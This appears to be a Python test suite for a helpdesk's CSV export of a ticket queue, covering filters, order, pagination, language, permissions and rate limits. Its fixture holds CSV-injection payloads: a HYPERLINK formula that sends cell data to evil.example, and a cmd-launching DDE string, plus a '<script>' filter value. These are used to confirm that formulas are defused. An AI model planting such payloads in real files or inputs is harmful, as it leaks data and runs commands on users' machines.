"""A queue's list downloaded as CSV: the list's filters and order, every page, the reader's
language and separator, formulas defused, and nobody else's queue."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from desk.auth.models import Role
from desk.queues import export
from tests.support.factories import make_queue, make_request_type, make_ticket, make_user

NOW = dt.datetime.now(dt.UTC)
URL = "/queues/reseau/export.csv"


@pytest.fixture
def board(app_ctx):
    queue = make_queue(code="reseau")
    other = make_queue(queue.domain, code="visio")
    tech = make_user(role=Role.TECHNICIAN, queues=(queue,), name="Karim Benali", locale="fr")
    english = make_user(role=Role.TECHNICIAN, queues=(queue,), name="John Smith", locale="en")
    alice = make_user("alice.dupont@umontpellier.fr", name="Alice Dupont")
    wifi = make_request_type(slug="wifi", queue=queue)
    tickets = {
        "late": make_ticket(
            queue=queue,
            request_type=wifi,
            subject="Borne HS; salle 12, « urgent »",
            resolution_due_at=NOW - dt.timedelta(hours=1),
            status="in_progress",
            assignee=tech,
            priority=4,
        ),
        "formula": make_ticket(
            queue=queue,
            request_type=wifi,
            subject='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
            requester=make_user(name="@SUM(1+1)*cmd|' /C calc'!A0"),
            resolution_due_at=NOW + dt.timedelta(hours=3),
        ),
        "quoted": make_ticket(
            queue=queue, subject='Écran "noir"\nsur deux lignes', requester=alice
        ),
        "closed": make_ticket(queue=queue, subject="Vieux ticket", status="closed"),
        "elsewhere": make_ticket(queue=other, subject="Autre file"),
    }
    return {"queue": queue, "tech": tech, "english": english, "alice": alice, "t": tickets}


def _table(response, delimiter=";") -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 by its byte-order mark
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return list(reader)


def test_the_list_with_its_filters_and_order_in_french(board, login):
    t = board["t"]
    response = login(board["tech"]).get(URL)
    assert "attachment; filename=reseau-" in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    rows = _table(response)
    # The list's default: open tickets, by due date, undated last; not the other queue's.
    assert [r["Référence"] for r in rows] == [
        t["late"].reference,
        t["formula"].reference,
        t["quoted"].reference,
    ]
    late = rows[0]
    assert late["Objet"] == "Borne HS; salle 12, « urgent »"  # the separator inside, quoted
    assert late["Technicien attribué"] == "Karim Benali"
    assert late["Statut"] == "En cours"
    assert late["Priorité"] == "Critique"
    assert late["SLA"] == "Résolution en retard"
    assert rows[2]["Objet"] == 'Écran "noir"\nsur deux lignes'
    assert rows[2]["Demandeur"] == "Alice Dupont" and rows[2]["Technicien attribué"] == ""
    # Dates in the display zone, as the page writes them.
    paris = t["late"].created_at.astimezone(dt.timezone(dt.timedelta(hours=1)))
    assert paris.strftime("%H:%M") in late["Créé le"]
    # Filters and sort come from the URL, as on the page.
    closed = _table(login(board["tech"]).get(URL, query_string={"status": "closed"}))
    assert [r["Référence"] for r in closed] == [t["closed"].reference]
    newest = _table(login(board["tech"]).get(URL, query_string={"sort": "-created"}))
    assert newest[0]["Référence"] == t["quoted"].reference


def test_a_cell_that_would_be_a_formula_is_written_as_text(board, login):
    rows = _table(login(board["tech"]).get(URL))
    formula = next(r for r in rows if r["Référence"] == board["t"]["formula"].reference)
    assert formula["Objet"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    assert formula["Demandeur"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for value in ("+1", "-1", "@x", "\tx", "\rx", "=1"):
        assert export.cell(value) == "'" + value
    assert export.cell("Écran 2") == "Écran 2" and export.cell(None) == ""


def test_english_headers_and_comma(board, login):
    rows = _table(login(board["english"]).get(URL), delimiter=",")
    assert rows[0]["Reference"] == board["t"]["late"].reference
    assert rows[0]["Status"] == "In progress" and rows[0]["SLA"] == "Resolution overdue"


def test_every_page_is_in_the_file_up_to_the_cap(board, login, monkeypatch):
    queue = board["queue"]
    for n in range(7):
        make_ticket(queue=queue, subject=f"Lot {n}")
    monkeypatch.setattr(export, "BATCH", 2)  # many keyset pages
    rows = _table(login(board["tech"]).get(URL, query_string={"sort": "created"}))
    assert len(rows) == 10 and len({r["Référence"] for r in rows}) == 10
    monkeypatch.setattr(export, "MAX_ROWS", 4)
    assert len(_table(login(board["tech"]).get(URL))) == 4


def test_the_list_page_links_to_its_download_with_its_filters(board, login):
    page = login(board["tech"]).get("/queues/reseau?status=all&sort=-created").text
    assert 'href="/queues/reseau/export.csv?status=all&amp;sort=-created"' in page
    assert "jusqu’à 10" in page


@pytest.mark.parametrize(
    "who, status",
    [("alice", 403), ("other_tech", 404), ("anonymous", 302)],
)
def test_who_may_not_download(board, login, client, who, status):
    if who == "anonymous":
        response = client.get(URL)
    else:
        user = board["alice"] if who == "alice" else None
        if user is None:
            user = make_user(role=Role.TECHNICIAN, queues=(make_queue(code="rh"),))
        response = login(user).get(URL)
    assert response.status_code == status
    assert response.mimetype != "text/csv"


@pytest.mark.parametrize(
    "query",
    [
        {"status": "nope", "sort": "\x00"},
        {"assignee": "99999999999999999999", "type": "%ff", "site": "<script>"},
        {"after": "garbage", "size": "-1", "q": "x" * 5000},
    ],
)
def test_bad_filters_are_ignored_never_an_error(board, login, query):
    response = login(board["tech"]).get(URL, query_string=query)
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        assert response.mimetype == "text/csv"
    assert login(board["tech"]).get("/queues/no-such-queue/export.csv").status_code == 404


def test_downloads_are_rate_limited_per_account(board, login, app_ctx, monkeypatch):
    monkeypatch.setitem(app_ctx.config, "RATELIMIT_EXPORT", "2 per minute")
    client = login(board["tech"])
    assert [client.get(URL).status_code for _ in range(3)] == [200, 200, 429]
    assert login(board["english"]).get(URL).status_code == 200  # someone else's budget


def test_a_finished_ticket_has_no_sla_state_beside_its_due_date(board, login):
    """Its deadline was met or missed when it finished (its page says which); 'No target'
    beside the due date it had read as if it never had one."""
    queue, tech = board["queue"], board["tech"]
    done = make_ticket(
        queue=queue, subject="Résolu", status="closed", resolution_due_at=NOW - dt.timedelta(days=1)
    )
    rows = _table(login(tech).get(URL, query_string={"status": "closed"}))
    (row,) = [r for r in rows if r["Référence"] == done.reference]
    assert row["Échéance de résolution"] != ""
    assert row["SLA"] == ""
